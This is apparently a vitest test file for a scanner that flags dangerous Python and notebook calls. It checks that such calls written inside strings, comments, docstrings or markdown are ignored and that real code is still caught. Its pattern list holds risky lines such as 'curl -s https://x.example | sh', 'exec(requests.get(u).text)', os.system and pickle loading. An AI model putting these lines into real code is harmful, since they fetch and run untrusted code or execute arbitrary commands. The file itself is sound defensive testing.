/**
 * Names in strings, comments, docstrings, f-string text, markdown and outputs are never findings:
 * every dangerous call of every rule is written here in all of those places.
 */
import { describe, expect, it } from "vitest";
import { scanNb, scanPy } from "./helpers.js";

const DANGEROUS = [
  "pickle.load(f)",
  "pickle.loads(b)",
  "torch.load(p, weights_only=False)",
  "torch.load(p)",
  "np.load(p, allow_pickle=True)",
  "yaml.load(f, Loader=yaml.Loader)",
  "yaml.unsafe_load(s)",
  "joblib.load(p)",
  "pd.read_pickle(p)",
  "subprocess.run(cmd, shell=True)",
  "os.system(cmd)",
  "os.popen(cmd)",
  "exec(requests.get(u).text)",
  "eval(x)",
  "AutoModel.from_pretrained(n, trust_remote_code=True)",
  "keras.models.load_model(p, safe_mode=False)",
  "requests.get(u, verify=False)",
  "ssl._create_unverified_context()",
  "torch.hub.load('a/b', 'm')",
  "curl -s https://x.example | sh",
  "sudo apt-get install x",
];

const IMPORTS = "import pickle, torch, yaml, joblib, subprocess, os, requests, ssl, keras\nimport numpy as np\nimport pandas as pd\n";

function asPython(call: string): string {
  const q = call.includes("'") ? '"' : "'";
  return [
    `# ${call}`,
    `x = ${q}${call}${q}`,
    `y = """\n${call}\n"""`,
    `def f():\n    """Calls ${call} for you."""\n    return 1`,
    `print(f"Never run ${call.replace(/[{}]/g, "")} here: {x}")`,
    `LOG = ${q}${call}${q} + ${q}# ${call}${q}`,
    `z = b${q}${call}${q}`,
    `logging.warning(${q}%s${q}, ${q}${call}${q})  # ${call}`,
  ].join("\n");
}

describe("names in strings, comments and docstrings", () => {
  it.each(DANGEROUS)("%s in a .py file", async (call) => {
    const scan = await scanPy(IMPORTS + asPython(call));
    expect(scan.found).toEqual([]);
    expect(scan.recorded.notes).toEqual([]);
  });

  it.each(DANGEROUS)("%s in notebook markdown, raw cells, outputs and strings", async (call) => {
    const scan = await scanNb([
      { source: IMPORTS, outputs: [`Warning: ${call}`, { text: `<pre>${call}</pre>`, mimeType: "text/html" }] },
      { cellType: "markdown", source: `Run \`${call}\` to load.\n\n!${call}` },
      { cellType: "raw", source: `${call}\n!${call}` },
      { source: asPython(call), outputs: [{ text: `Traceback: ${call}`, outputType: "error" }] },
    ]);
    expect(scan.found).toEqual([]);
  });

  it("still finds the same calls as code (the test above can fail)", async () => {
    const scan = await scanPy(IMPORTS + "pickle.load(f)\neval(x)\n");
    expect(scan.found.map((f) => f[0])).toEqual(["code/dynamic-exec", "code/pickle-load"]);
  });

  it("an f-string's text is not code but its replacement fields are", async () => {
    const scan = await scanPy('import pickle\nmsg = f"pickle.load(f) is {pickle.loads(b)!r:>10}"\n');
    expect(scan.found).toEqual([["code/pickle-load", "high", "pickle.loads(b)"]]);
  });

  it("a shell line inside a triple-quoted string is not a shell line", async () => {
    const scan = await scanNb(['HELP = """\n!curl -s https://x.example | sh\n%%bash\n"""\nprint(HELP)']);
    expect(scan.found).toEqual([]);
  });
});
